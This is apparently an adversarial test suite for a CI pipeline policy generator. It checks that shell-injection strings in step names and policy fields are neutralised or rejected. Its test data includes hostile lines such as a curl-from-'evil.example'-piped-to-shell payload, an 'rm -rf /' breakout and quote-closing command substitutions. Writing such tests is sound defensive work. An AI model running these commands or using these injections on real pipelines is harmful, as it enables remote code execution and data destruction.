/** Shell text in step names (never reaches a shell line) and in policy values (the schema refuses it). */
import type { AdversarialFamily } from '../case';
import { PROD_ROLE, referencePolicy, step, T } from '../harness';
import { oidcSetupLines } from '../../../src/rules/oidc-role';

const F = T.branch('feature/x', 'feature/*');
const dev = referencePolicy().policy.environments.find((e) => e.name === 'dev')!;

const HOSTILE_NAMES = [
  "x'; export AWS_ROLE_ARN=evil; '",
  '$(curl -s https://evil.example/x | sh)',
  '`id`',
  'a"; rm -rf / #',
  'line one\nexport AWS_PROFILE=prod',
];

export const injection: AdversarialFamily = {
  family: 'injection',
  cases: [
    ...HOSTILE_NAMES.map((name) => ({
      name: `shell text in a DEV step name (${JSON.stringify(name)}) never reaches a shell line`,
      target: F,
      items: [step(name, { oidc: true, script: ['make'] })],
      expect: {
        allowed: true as const,
        check: (output: Record<string, unknown>) => {
          const s = (output.pipelines as any).branches['feature/*'][1].step;
          expect(s.script).toEqual([...oidcSetupLines(dev), 'make']);
          expect(s.name).toBe(name);
        },
      },
    })),
    {
      name: 'shell text after the PROD prefix is still PROD, and blocked',
      target: F,
      items: [step('PROD $(curl evil|sh)')],
      expect: { blocked: ['branch-gate'] },
    },
    {
      name: 'a 5,000-character hostile name is blocked with a message that stays short',
      target: F,
      items: [step(`PROD ${'$(x)'.repeat(1250)}`)],
      expect: { blocked: ['branch-gate'] },
    },
    {
      name:
        'the PROD role ARN carried in a DEV step name is not a shell line, ' +
        'but the role may not appear in a DEV step at all',
      target: F,
      items: [step(`deploy with ${PROD_ROLE}`)],
      expect: { blocked: ['oidc-role'] },
    },
  ],
};

/** Policy values that try to break out of the shell lines Pipeline Guard writes: the schema must refuse each. */
export const POLICY_INJECTIONS: Array<{ name: string; path: string; set: (policy: any) => void }> = [
  {
    name: 'a role ARN that closes the quote and runs a command',
    path: 'environments[0].oidc.roleArn',
    set: (p) => (p.environments[0].oidc.roleArn = `${PROD_ROLE}'; curl evil | sh; '`),
  },
  {
    name: 'a role ARN with a command substitution',
    path: 'environments[0].oidc.roleArn',
    set: (p) => (p.environments[0].oidc.roleArn = 'arn:aws:iam::111111111111:role/$(id)'),
  },
  {
    name: 'a role ARN with a backtick',
    path: 'environments[0].oidc.roleArn',
    set: (p) => (p.environments[0].oidc.roleArn = 'arn:aws:iam::111111111111:role/`id`'),
  },
  {
    name: 'a role ARN with a newline',
    path: 'environments[0].oidc.roleArn',
    set: (p) => (p.environments[0].oidc.roleArn = `${PROD_ROLE}\nid`),
  },
  {
    name: 'a role ARN with a space',
    path: 'environments[0].oidc.roleArn',
    set: (p) => (p.environments[0].oidc.roleArn = `${PROD_ROLE} x`),
  },
  {
    name: 'a region with a semicolon',
    path: 'environments[1].oidc.region',
    set: (p) => (p.environments[1].oidc.region = 'eu-west-1; id'),
  },
  {
    name: 'a region with a double quote',
    path: 'environments[1].oidc.region',
    set: (p) => (p.environments[1].oidc.region = 'eu-west-1"'),
  },
  {
    name: 'a region with a single quote',
    path: 'environments[1].oidc.region',
    set: (p) => (p.environments[1].oidc.region = "eu-west-1'"),
  },
  {
    name: 'a runner label with a semicolon',
    path: 'environments[0].runner.labels[2]',
    set: (p) => (p.environments[0].runner.labels[2] = 'prod;id'),
  },
  {
    name: 'a runner label with a space',
    path: 'environments[1].runner.extraLabels[0]',
    set: (p) => (p.environments[1].runner.extraLabels[0] = 'dev large'),
  },
  {
    name: 'a runner label in upper case',
    path: 'environments[0].runner.labels[2]',
    set: (p) => (p.environments[0].runner.labels[2] = 'PROD'),
  },
  {
    name: 'a step-name prefix with a command substitution',
    path: 'environments[0].match.stepNamePrefix',
    set: (p) => (p.environments[0].match.stepNamePrefix = 'PROD$(id)'),
  },
  {
    name: 'a deployment name with a semicolon',
    path: 'environments[0].match.deployments[0]',
    set: (p) => (p.environments[0].match.deployments[0] = 'production; id'),
  },
  {
    name: 'an environment name with shell text',
    path: 'environments[0].name',
    set: (p) => (p.environments[0].name = 'prod$(id)'),
  },
  {
    name: 'a description with a control character',
    path: 'environments[0].description',
    set: (p) => (p.environments[0].description = 'PROD\u0007'),
  },
  {
    name: 'a scan step name with a newline',
    path: 'securityScan.steps[0].name',
    set: (p) => (p.securityScan.steps[0].name = 'Scan\nexport AWS_ROLE_ARN=x'),
  },
  {
    name: 'a scan image with a semicolon',
    path: 'securityScan.steps[0].image',
    set: (p) => (p.securityScan.steps[0].image = 'alpine;id'),
  },
  {
    name: 'a scan image with a space',
    path: 'securityScan.steps[0].image',
    set: (p) => (p.securityScan.steps[0].image = 'alpine id'),
  },
  {
    name: 'a branch glob with a control character',
    path: 'environments[0].branches[0]',
    set: (p) => (p.environments[0].branches[0] = 'main\u0000'),
  },
  { name: 'a denied-image glob with white space', path: 'deny.images[0]', set: (p) => (p.deny.images[0] = '* ; id') },
];
